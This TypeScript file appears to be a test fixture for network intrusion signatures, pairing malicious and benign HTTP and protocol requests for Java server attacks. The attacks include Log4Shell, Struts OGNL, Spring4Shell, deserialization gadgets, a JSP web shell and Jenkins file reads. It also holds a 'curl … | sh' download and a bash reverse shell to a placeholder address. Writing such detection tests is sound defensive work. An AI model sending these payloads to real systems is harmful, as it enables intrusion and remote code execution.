// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
import { big, hex, type SignatureCase, signature, talk } from '../exchange';
import { get, JSON_TYPE, post, put, request, upload, XML_TYPE } from '../http';

const SERIALIZED = hex('aced0005');
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const gadget = (name: string) => `${SERIALIZED}sr\0${big(1, name.length)}${name}\x12\x34\x56\x78\x02\0\0xp`;

/** A frame of the Jenkins command line protocol: length, operation 0 (argument), text with its length. */
const jenkinsArgument = (text: string) => `${big(4, text.length + 2)}\0${big(2, text.length)}${text}`;

/** AJP 1.3 FORWARD_REQUEST, web server to container, with request attributes (code 10). */
function ajp(attributes: readonly (readonly [string, string])[]): string {
  const text = (value: string) => `${big(2, value.length)}${value}\0`;
  const body =
    `\x02\x02${text('HTTP/1.1')}${text('/index.txt')}${text('127.0.0.1')}${text('localhost')}${text('www.example.org')}` +
    `\0\x50\0\0\x01\xa0\x0b${text('www.example.org')}` +
    `${attributes.map(([name, value]) => `\x0a${text(name)}${text(value)}`).join('')}\xff`;
  return `\x12\x34${big(2, body.length)}${body}`;
}

/** OpenWire EXCEPTION_RESPONSE (31) with the class that the client names. */
const openWire = (type: number, className: string, message: string) => {
  const text = (value: string) => `\x01${big(2, value.length)}${value}`;
  const body = `${big(1, type)}\0\0\0\x01\0\0\0\0\x01\x01${text(className)}${text(message)}`;
  return `${big(4, body.length)}${body}`;
};

const velocity = '%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))';

export const webJava: readonly SignatureCase[] = [
  signature(
    9000001,
    [
      get('/?x=${jndi:ldap://198.51.100.99:1389/Exploit}'),
      get('/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2F198.51.100.99%2Fa%7D'),
      get('/a?b=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://example.net/z}'),
      get('/${j${k8s:k5:-ND}i${sd:k5:-:}ldap://example.net/a}'),
    ],
    [get('/docs/templates?q=${name}'), get('/search?q=%24%7Bjndi+lookup+syntax%7D'), get('/a?b=${env:HOME}')],
  ),
  signature(
    9000002,
    [
      get('/', { 'User-Agent': '${jndi:ldap://198.51.100.99:1389/a}' }),
      get('/', {
        'X-Api-Version': '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://198.51.100.99/a}',
      }),
      get('/', { Referer: 'http://www.example.org/${${upper:j}n${lower:d}i:dns://example.net}' }),
    ],
    [
      get('/', { Referer: 'https://www.example.org/${page}/edit' }),
      get('/', { 'X-Template': '${user.name}-${index}' }),
    ],
  ),
  signature(
    9000003,
    [
      get('/', { Cookie: 'session=${jndi:ldaps://example.net/a}' }),
      get('/', { Cookie: 'theme=dark; id=${${lower:jn}di:iiop://example.net/b}' }),
    ],
    [get('/', { Cookie: 'greeting=${hello}; theme=dark' })],
  ),
  signature(
    9000004,
    [
      post('/login', 'user=${jndi:ldap://example.net/a}&password=x'),
      post('/api/users', '{"name":"${${::-j}nd${lower:i}:rmi://example.net/a}"}', JSON_TYPE),
    ],
    [post('/api/templates', '{"text":"Dear ${customer}, JNDI: see ${link}"}', JSON_TYPE)],
  ),
  signature(
    9000005,
    [
      post('/login', 'user=%24%7Bjndi%3Aldap%3A%2F%2Fexample.net%2Fa%7D'),
      post('/login', 'user=%24%7b%24%7blower%3aj%7dndi%3aldap%3a%2f%2fexample.net%7d'),
    ],
    [post('/save', 'text=%24%7Bjndi-properties%7D+are+documented+here&n=%7B1%7D')],
  ),
  signature(
    9000006,
    [
      get('/form?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
      get('/form?a=1&class%2emodule%2eclassloader%2eURLs%5b0%5d=0'),
    ],
    [get('/search?q=java+classLoader+module'), get('/docs/module/classLoader.html')],
  ),
  signature(
    9000007,
    [
      post('/form', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
      post('/form', 'name=a&class%5Bmodule%5D.classLoader.defaultAssertionStatus=true'),
    ],
    [post('/comment', 'text=The+class+loader%3A+module.classLoader+is+null')],
  ),
  signature(
    9000008,
    [
      post('/functionRouter', 'x', {
        'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")',
      }),
      post('/functionRouter', 'x', {
        'Spring.Cloud.Function.Routing-Expression': 'new java.lang.ProcessBuilder("id").start()',
      }),
    ],
    [post('/functionRouter', 'x', { 'spring.cloud.function.routing-expression': "headers['target']" })],
  ),
  signature(
    9000009,
    [
      post(
        '/actuator/gateway/routes/hacktest',
        '{"id":"h","filters":[{"name":"AddResponseHeader","args":{"value":"#{new String(T(java.lang.Runtime).getRuntime())}"}}]}',
        JSON_TYPE,
      ),
      post(
        '/actuator/gateway/routes/x1',
        '{"args":{"v":"#{ T (java.lang.Class).forName(\'a\')}"}}',
        JSON_TYPE,
      ),
    ],
    [
      post(
        '/actuator/gateway/routes/shop',
        '{"predicates":[{"name":"Path","args":{"p":"/shop/**"}}]}',
        JSON_TYPE,
      ),
    ],
  ),
  signature(
    9000010,
    [
      request('POST', '/struts2-showcase/', 'a=b', {
        headers: {
          'Content-Type':
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
        },
      }),
      request('GET', '/login.action', '', {
        headers: { 'content-type': "${(#nike='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}" },
      }),
    ],
    [post('/api', '{"a":1}', { 'Content-Type': 'application/json; profile="http://example.org/{id}"' })],
  ),
  signature(
    9000011,
    [
      upload('/upload.action', "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\0b", 'x'),
      upload('/doUpload.action', "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", 'x'),
    ],
    [upload('/upload.action', 'report {2026} #3.pdf', '%PDF-1.7')],
  ),
  signature(
    9000012,
    [
      get(
        '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
      ),
      get(
        "/struts/${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['x']).(@java.lang.Runtime@getRuntime())}/help.action",
      ),
      get(
        '/index.action?redirect:%25%7Bnew+java.lang.ProcessBuilder(new+java.lang.String%5B%5D%7B%27id%27%7D)%7D',
      ),
    ],
    [
      get('/docs/java.lang.Runtime.html'),
      get('/search?q=%7Bjava+beans%7D'),
      get('/a/${java.version}/index.html'),
    ],
  ),
  signature(
    9000013,
    [
      post(
        '/pages/createpage-entervariables.action',
        'queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29%7d%2b%5cu0027',
      ),
      post('/users/user-dark-features', 'queryString=aaaa\\u0027+{Class.forName(x).newInstance()}+\\u0027'),
    ],
    [post('/search', 'queryString=it%27s+a+class+of+java')],
  ),
  signature(
    9000014,
    [
      get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
      get('/server-info.action?x=1&BootstrapStatusProvider%2eapplicationConfig%2esetupComplete=0'),
    ],
    [get('/server-info.action?setupComplete=false')],
  ),
  signature(
    9000015,
    [
      post(
        '/template/aui/text-inline.vm',
        'label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d&x=@java.lang.Runtime@getRuntime()',
      ),
      post('/template/aui/text-inline.vm', 'a=1&label=%5cu0027%2b%23context.get(%27a%27)'),
    ],
    [post('/template/aui/other.vm', 'label=Don\\u0027t')],
  ),
  signature(
    9000016,
    [
      get('/console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence'),
      get('/console/images/%252E%252E%252Fconsole.portal?_nfpb=true', {}, 7001),
    ],
    [get('/console/css/%2e%2e/login.css'), get('/console/console.portal?_nfpb=true')],
  ),
  signature(
    9000017,
    [
      post(
        '/wls-wsat/CoordinatorPortType',
        '<soapenv:Envelope><soapenv:Header><java version="1.8"><object class="java.lang.ProcessBuilder"></object></java></soapenv:Header></soapenv:Envelope>',
        XML_TYPE,
        7001,
      ),
      post(
        '//_async/AsyncResponseService',
        "<java><class><void class='java.io.PrintWriter'></void></class></java>",
        XML_TYPE,
      ),
    ],
    [post('/ws/Orders', '<order><item class="java-mug"/></order>', XML_TYPE)],
  ),
  signature(
    9000018,
    [
      get(
        '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+%7Bpublic+x()%7B%22id%22.execute()%7D%7D',
        {},
        8080,
      ),
      get(
        '/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)',
      ),
    ],
    [get('/job/a/descriptorByName/hudson.tasks.Shell/checkScript?value=println+1')],
  ),
  signature(
    9000019,
    [
      post(
        '/cli?remoting=false',
        `${jenkinsArgument('help')}${jenkinsArgument('@/etc/passwd')}`,
        { Side: 'upload' },
        8080,
      ),
      post(
        '/cli?remoting=false',
        `${jenkinsArgument('connect-node')}${jenkinsArgument('@C:\\secrets\\master.key')}`,
      ),
    ],
    [post('/cli?remoting=false', `${jenkinsArgument('who-am-i')}${jenkinsArgument('ops@example.org')}`)],
  ),
  signature(
    9000020,
    [
      put('/shell.jsp/', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', {}, 8080),
      put('/x.jspx%20', '<jsp:scriptlet>x</jsp:scriptlet>'),
    ],
    [put('/docs/readme.txt', '<% not a page %>'), put('/files/index.jsp.bak', '<b>old</b>')],
  ),
  signature(
    9000021,
    [
      talk(
        8009,
        ajp([
          ['javax.servlet.include.request_uri', '/'],
          ['javax.servlet.include.path_info', '/WEB-INF/web.xml'],
        ]),
      ),
      talk(
        8009,
        ajp([
          ['remote', 'x'],
          ['javax.servlet.include.servlet_path', '/'],
        ]),
      ),
    ],
    [
      talk(
        8009,
        ajp([
          ['AJP_REMOTE_PORT', '40000'],
          ['javax.servlet.request.ssl_session', 'none'],
        ]),
      ),
    ],
  ),
  signature(
    9000022,
    [
      post(
        '/invoker/JMXInvokerServlet',
        gadget('org.apache.commons.collections.functors.ChainedTransformer'),
      ),
      post('/invoker/readonly', `\0\x01${gadget('org.apache.commons.beanutils.BeanComparator')}`, {}, 8080),
    ],
    [post('/remoting/orders', gadget('org.example.orders.Order'))],
  ),
  signature(
    9000023,
    [
      post(
        '/faces/login.xhtml',
        `javax.faces.ViewState=${base64(gadget('org.apache.commons.collections.map.LazyMap'))}`,
      ),
      post(
        '/state',
        `s=${base64(`${gadget('a')}${gadget('org.apache.xalan.internal.xsltc.trax.TemplatesImpl')}`)}`,
      ),
    ],
    [post('/faces/login.xhtml', `javax.faces.ViewState=${base64(gadget('org.example.ui.State'))}`)],
  ),
  signature(
    9000024,
    [
      get('/', {
        Cookie: `rememberMe=${base64(gadget('org.apache.commons.collections.keyvalue.TiedMapEntry'))}`,
      }),
      get('/', { Cookie: `a=b; state=${base64(gadget('xx.org.apache.commons.collections4'))}` }),
    ],
    [get('/', { Cookie: `state=${base64(gadget('java.util.HashMap'))}` })],
  ),
  signature(
    9000025,
    [
      talk(1099, `JRMI\0\x02K`, `P${gadget('org.apache.commons.collections.functors.InvokerTransformer')}`),
      talk(
        7001,
        't3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n',
        `\0\0\x09\xf3\x01${gadget('com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase')}`,
      ),
    ],
    [talk(1099, 'JRMI\0\x02K', `P${SERIALIZED}w"\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01`)],
  ),
  signature(
    9000026,
    [
      post(
        '/api',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://example.net/a","autoCommit":true}',
        JSON_TYPE,
      ),
      post('/api', '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://example.net/a"}]', JSON_TYPE),
    ],
    [post('/api', '{"@type":"org.example.Order","dataSource":"main"}', JSON_TYPE)],
  ),
  signature(
    9000027,
    [
      talk(
        61616,
        openWire(
          31,
          'org.springframework.context.support.ClassPathXmlApplicationContext',
          'http://example.net/p.xml',
        ),
      ),
      talk(
        61616,
        openWire(31, 'org.apache.xbean.spring.ClassPathXmlApplicationContext', 'http://198.51.100.99/a'),
      ),
    ],
    [talk(61616, openWire(31, 'java.io.IOException', 'connection lost'))],
  ),
  signature(
    9000028,
    [
      talk(8000, 'JDWP-Handshake', `${hex('00000022 00000005 00 01 02')}\0\0\0\x13Ljava/lang/Runtime;`),
      talk(
        5005,
        `JDWP-Handshake${hex('0000000b 00000001 00 01 07')}`,
        `${hex('00000022 00000002 00 01 02')}\0\0\0\x13Ljava/lang/Runtime;`,
      ),
    ],
    [talk(8000, 'JDWP-Handshake', `${hex('00000023 00000005 00 01 02')}\0\0\0\x14Lorg/example/Orders;`)],
  ),
  signature(
    9000029,
    [
      get(`/solr/core/select?q=1&&wt=velocity&v.template=custom&v.template.custom=${velocity}`, {}, 8983),
      get(`/solr/a/query?V.Template.Custom=${velocity}&wt=velocity`),
    ],
    [get('/solr/core/select?q=velocity&wt=json', {}, 8983)],
  ),
  signature(
    9000030,
    [
      post(
        '/solr/core/config',
        '{"update-queryresponsewriter":{"name":"velocity","params.resource.loader.enabled":"true"}}',
        JSON_TYPE,
        8983,
      ),
      post(
        '/solr/x/config',
        "{'update-queryresponsewriter':{'params.resource.loader.enabled' : true}}",
        JSON_TYPE,
      ),
    ],
    [
      post(
        '/solr/core/config',
        '{"set-property":{"params.resource.loader.enabled":"false"}}',
        JSON_TYPE,
        8983,
      ),
    ],
  ),
  signature(
    9000031,
    [
      post(
        '/ws/v1/cluster/apps',
        '{"application-id":"a","am-container-spec":{"commands":{"command":"curl http://example.net/x.sh | sh"}}}',
        JSON_TYPE,
        8088,
      ),
      post(
        '/ws/v1/cluster/apps',
        '{"am-container-spec":{"commands":{"command":"/bin/bash -i >& /dev/tcp/198.51.100.99/4444 0>&1"}}}',
        JSON_TYPE,
        8088,
      ),
    ],
    [
      post(
        '/ws/v1/cluster/apps',
        '{"am-container-spec":{"commands":{"command":"{{JAVA_HOME}}/bin/java -Xmx10m MyMaster"}}}',
        JSON_TYPE,
        8088,
      ),
    ],
  ),
  signature(
    9000032,
    [
      post(
        '/_search?pretty',
        '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()"}}}',
        JSON_TYPE,
        9200,
      ),
      post(
        '/website/blog/_search',
        '{"script_fields":{"x":{"script":"import java.util.*; new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\"))"}}}',
        JSON_TYPE,
        9200,
      ),
    ],
    [post('/shop/_search', '{"query":{"match":{"title":"java.lang and scripting"}}}', JSON_TYPE, 9200)],
  ),
  signature(
    9000033,
    [
      get('/webtools/control/xmlrpc/?USERNAME=&PASSWORD=s&requirePasswordChange=Y'),
      post('/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&RequirePasswordChange=Y', 'groovyProgram=x'),
    ],
    [get('/webtools/control/main?USERNAME=flexadmin')],
  ),
  signature(
    9000034,
    [
      post('/hax?jsp=/app/rest/users;.jsp', '{"username":"a"}', JSON_TYPE, 8111),
      get('/x?a=1&jsp=/app/rest/server%3b.jsp', {}, 8111),
    ],
    [get('/app/rest/server?fields=version', {}, 8111), get('/view.html?jsp=/app/page.jsp', {}, 8111)],
  ),
  signature(
    9000035,
    [
      get(
        "/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/x')",
        {},
        8080,
      ),
      get(
        '/geoserver/wfs?valueReference=exec%20%28java.lang.Runtime.getRuntime%28%29%2C%27id%27%29&request=GetPropertyValue',
      ),
    ],
    [get('/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=the_geom', {}, 8080)],
  ),
  signature(
    9000036,
    [
      get(
        '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D',
      ),
      get('/a?x=<%23assign+ex="Freemarker.Template.Utility.Execute"?new()>'),
    ],
    [get('/docs?q=freemarker.template.Template')],
  ),
];
